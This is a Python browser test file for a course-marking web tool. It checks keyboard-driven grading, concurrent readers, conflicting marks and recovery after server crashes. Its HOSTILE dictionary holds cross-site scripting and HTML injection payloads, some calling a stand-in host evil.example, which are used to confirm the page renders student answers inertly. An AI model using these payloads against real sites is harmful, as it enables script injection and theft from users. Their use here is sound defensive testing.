"""`labkit mark` in a real browser: by keyboard, by two readers at once, with the server killed, on hostile answers."""

import sqlite3
from contextlib import closing

import pytest

from labkit.instructor.report.gradebook import Gradebook

from helpers.marking import LAB, Q1, Marking, graded, marking, points

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
PATIENCE = 60_000  # [ms] for anything of the page: no limit, but an end of what never comes
# Keys that are pressed before the page's script is there do nothing: so slow [ms], a test that does not wait fails.
SLOW = {"offline": False, "latency": 100, "downloadThroughput": -1, "uploadThroughput": -1}


class Reader:
    """A person at the page, in a browser of their own. asked: addresses that the page asked for."""

    def __init__(self, browser, server, name):
        self.page = browser.new_context().new_page()
        self.page.set_default_timeout(PATIENCE)
        line = self.page.context.new_cdp_session(self.page)
        line.send("Network.enable")
        line.send("Network.emulateNetworkConditions", SLOW)
        self.name, self.asked, self.complaints = name, [], []
        self.page.on("console", lambda m: self.complaints.append(m.text) if m.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.goto(f"{server.address}{name}/" if name else server.address)

    def begin(self):
        """Open the first question's next answer."""
        self.page.locator(".questions a").first.click()
        self.wait("#give")
        return self

    def press(self, *keys):
        for key in keys:
            self.page.keyboard.press(key)

    def text(self, what):
        return self.page.locator(what).inner_text()

    def wait(self, what):
        """Return when it is there and the page's script, which listens to the keys, has run."""
        self.page.locator(what).first.wait_for()
        self.page.wait_for_load_state()

    @property
    def names(self):
        return self.page.locator(".slots label bdi").all_inner_texts()


def kept(out):
    """[(student, reader, points, comment)] of all marks that were ever given, in order."""
    with closing(sqlite3.connect(out / "gradebook.db")) as book:
        return book.execute("SELECT student, reader, points, reason FROM hand ORDER BY id").fetchall()


def test_all_is_done_by_keyboard_and_can_be_taken_back(browser, tmp_path):
    out = graded(tmp_path / "out", {"Ada": "It is inside.", "Bela": "It is inside.", "Cem": "Why not $\\frac{1}{2}$?"})
    with marking(out) as server:
        reader = Reader(browser, server, "")
        reader.page.keyboard.type("Emmy N.")
        reader.press("Enter")
        reader.wait(".questions")
        reader.page.locator(".questions a").first.focus()
        reader.press("Enter")
        reader.wait("#give")
        assert reader.names == ["Ada", "Bela"] and "Give to 2 students" in reader.text("#give")
        reader.press("2", "1", "2", "c")  # the second line of the rubric on, and off again
        reader.page.keyboard.type("Say 2 things.")
        assert reader.page.locator("#points").input_value() == "1"
        reader.press("Control+Enter")
        reader.wait("main :text('Cem')")
        assert reader.page.locator(".answer math").count() == 1
        reader.press("r", "1", "f", "Enter")
        reader.wait(":text('3 of 3 read')")
        assert points(out) == {"Ada": 1, "Bela": 1, "Cem": 2}
        assert kept(out)[2] == ("Cem", "Emmy N.", 2, "Say 2 things.")
        reader.page.locator("td a").first.focus()
        reader.press("Enter")
        reader.wait("#give")
        reader.press("u")
        reader.wait("#said:text('Taken back for Cem')")
        reader.press("u")
        reader.wait("#said:text('Taken back for 2 students')")
        assert set(points(out).values()) == {None}
        reader.press("s", "3", "Escape", "0", "Enter")  # one of the two alone
        reader.wait("#said:text('0 for Ada')")
        assert points(out) == {"Ada": 0, "Bela": None, "Cem": None}
        reader.press("c")
        reader.page.keyboard.type("half a comment")
        reader.press("Escape", "n")
        reader.wait("#trouble:text('not given yet')")
        assert reader.complaints == []


def test_two_readers_at_once_read_each_answer_once(browser, tmp_path):
    answers = {f"Student {n}": f"Answer {n} is number {n * n}." for n in range(12)}
    out = graded(tmp_path / "out", answers)
    with marking(out) as server:
        readers = [Reader(browser, server, name).begin() for name in ("Emmy", "Noor")]
        while going := [reader for reader in readers if reader.page.locator("#give").count()]:
            before = [reader.page.url for reader in going]
            for reader in going:
                reader.press("1", "Enter")  # neither waits for the other
            for reader, address in zip(going, before):
                reader.page.wait_for_url(lambda now, address=address: now != address)
                reader.page.locator("h1").wait_for()
        assert points(out) == dict.fromkeys(answers, 1)
        marks = kept(out)
        assert sorted(mark[0] for mark in marks) == sorted(answers)
        assert {mark[1] for mark in marks} == {"Emmy", "Noor"}
        assert all(reader.complaints == [] for reader in readers)


def test_a_mark_given_meanwhile_is_shown_and_not_overwritten_unseen(browser, tmp_path):
    out = graded(tmp_path / "out", {"Ada": "It is inside."})
    with marking(out) as one, marking(out) as two:  # two servers on one gradebook
        emmy = Reader(browser, one, "Emmy").begin()
        noor = Reader(browser, two, "Noor")
        noor.page.goto(emmy.page.url.replace(one.address, two.address).replace("Emmy", "Noor"))
        assert "Also being read by Emmy" in noor.text("main")
        emmy.press("1", "c")
        emmy.page.keyboard.type("Half of it.")
        emmy.press("Control+Enter")
        emmy.wait(":text('1 of 1 read')")
        noor.press("f", "Enter")
        noor.wait("#trouble:text('Ada: 1 by Emmy (Half of it.)')")
        assert points(out) == {"Ada": 1} and noor.page.locator("#points").input_value() == "2"
        noor.press("Enter")
        noor.wait(":text('1 of 1 read')")
        assert [mark[1:3] for mark in kept(out)] == [("Emmy", 1), ("Noor", 2)]


def test_after_a_refusal_only_the_same_mark_counts_once_more_and_n_goes_on(browser, tmp_path):
    out = graded(tmp_path / "out", {"Ada": "It is inside.", "Bela": "It is not large."})
    with marking(out) as server:
        noor, kay = Reader(browser, server, "Noor").begin(), Reader(browser, server, "Kay")
        kay.page.goto(noor.page.url.replace("Noor", "Kay"))
        kay.press("f", "Enter")
        kay.wait("main :text('Bela')")
        noor.press("1", "Enter")
        noor.wait("#trouble:text('Ada: 2 by Kay')")
        noor.press("1", "Enter")  # 0 now: what was refused is another mark
        noor.wait("#give .main:enabled")
        assert "Ada: 2 by Kay" in noor.text("#trouble") and points(out)["Ada"] == 2
        noor.press("r")
        noor.wait("#said:text('no comment')")
        noor.press("1")
        assert noor.page.locator("#points").input_value() == "0"
        address = noor.page.url
        noor.press("n")
        noor.page.wait_for_url(lambda now: now != address)
        assert points(out) == {"Ada": 2, "Bela": None}
        noor.page.go_back()
        noor.wait("main :text('2 by Kay')")
        noor.press("0", "Enter")
        noor.wait("#said:text('0 for Ada, in place of 2 by Kay.')")
        noor.press("l")
        noor.wait("table")
        noor.press("u")
        noor.wait("#said:text('Taken back for Ada')")
        assert points(out) == {"Ada": 2, "Bela": None}


@pytest.mark.parametrize("when", ["before it was kept", "after it was kept"])
def test_a_server_that_is_killed_and_started_anew_loses_and_doubles_nothing(browser, tmp_path, when):
    out = graded(tmp_path / "out", {"Ada": "It is inside.", "Bela": "It is large.", "Cem": "It is small."})
    server = Marking(out)
    try:
        reader = Reader(browser, server, "Emmy").begin()
        if when == "after it was kept":

            def cut(route):
                route.fetch()
                server.kill()
                route.abort("connectionreset")

            reader.page.route(
                "**/*", lambda route: cut(route) if route.request.method == "POST" else route.continue_(), times=1
            )
        else:
            server.kill()
        reader.press("1", "Enter")
        reader.wait("#trouble:text('does not answer')")
        assert [mark[0] for mark in kept(out)] == ["Ada"] * (when == "after it was kept")
        server = Marking(out, server.port)  # the page that is open goes on by itself
        reader.wait("main :text('Bela')")
        reader.press("2", "Enter")
        reader.wait("main :text('Cem')")
        assert points(out) == {"Ada": 1, "Bela": 1, "Cem": None} and len(kept(out)) == 2
    finally:
        server.kill()


HOSTILE = {
    "script": "<script>fetch('https://evil.example/')</script><ScRiPt src=//evil.example/x.js></sCrIpT>",
    "onerror": '<img src=x onerror="alert(1)"><svg onload=alert(2)><iframe srcdoc="<script>alert(3)</script>">',
    "links": "[click](javascript:alert(4)) <javascript:alert(5)> [x](data:text/html,<script>alert(6)</script>) "
    '<a href="javascript:alert(7)" accesskey="1">a</a> ![p](https://evil.example/p.png "t") ![q](javascript:alert(8))',
    "page": '</div></section></main><form id="give"><input id="points" value="2"><button class="main" type="submit">'
    '<link rel=stylesheet href=//evil.example/x.css><base href="//evil.example/"><meta http-equiv=refresh content=0>',
    "quotes": '" onmouseover="alert(9)" x="\' autofocus onfocus=alert(10) `${alert(11)}` {{ 7 * 7 }} {% raw %} &#8238;',
    "bidi": "\u202egnp.\u2066points\u2069 \u200f\u061c" + "\u0301" * 500 + " \x00\x07\x1b[31mred \ud800",
    "formula": "$\\href{javascript:alert(12)}{x}$ $\\text{<img src=x onerror=alert(13)>}$ $$" + "{" * 2000 + "$$",
    "huge": "x" * 150_000 + " " + "[" * 20_000 + "> " * 5_000 + "|a" * 5_000,
    "picture": f"![ok](data:image/png;base64,{PNG}) ![no](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTQpPg==)",
}


def test_hostile_answers_do_nothing(browser, tmp_path):
    answers = {f"<b>{name}</b> \u202e": text for name, text in HOSTILE.items()}
    out = graded(tmp_path / "out", answers)
    with marking(out) as server:
        reader = Reader(browser, server, "Emmy").begin()
        seen = set()
        for _ in answers:
            reader.page.locator("h1").wait_for()
            name = reader.names[0]
            assert name.startswith("<b>") and "\u202e" not in reader.text("main")
            seen.add(name)
            assert reader.page.locator("form").count() == reader.page.locator("#points").count() == 1
            active = "script, iframe, object, embed, link, base, meta, svg, [style], [accesskey], [onerror], [onload]"
            assert reader.page.locator("main").locator(active).count() == 0
            inside = reader.page.locator(".answer a")
            assert all("?whole" in a.get_attribute("href") for a in inside.all())
            if "picture" in name:
                assert reader.page.locator(".answer img").evaluate("image => image.naturalWidth") == 1
            if "huge" in name:
                with reader.page.context.expect_page() as whole:
                    inside.click()
                assert len(whole.value.inner_text("body")) > 180_000
                whole.value.close()
            address = reader.page.url
            reader.press("c")
            reader.page.keyboard.insert_text(HOSTILE["script"] + HOSTILE["quotes"])
            reader.press("Escape", "f", "Enter")
            reader.page.wait_for_url(lambda now, address=address: now != address)
        assert len(seen) == len(answers) and set(points(out).values()) == {2}
        reader.wait("table")
        assert reader.complaints == []
        outside = [
            url for url in reader.asked if not url.startswith(server.address) and not url.startswith("data:image/")
        ]
        assert outside == []


def test_what_is_graded_meanwhile_is_read_as_it_is_now(browser, tmp_path):
    out = graded(tmp_path / "out", {"Ada": "It is inside."})
    with marking(out) as server:
        reader = Reader(browser, server, "Emmy").begin()
        with closing(Gradebook(out / "gradebook.db")) as book:
            paper = book.db.execute("SELECT paper FROM submission").fetchone()[0]
            id = book.add(LAB, "Ada", "", "b.ipynb", "new", paper, None, False, [], {Q1: "It is outside."})
            book.choose(id, [], False)
        reader.press("f", "Enter")
        reader.wait("#trouble:text('another answer meanwhile')")
        assert points(out) == {"Ada": None}
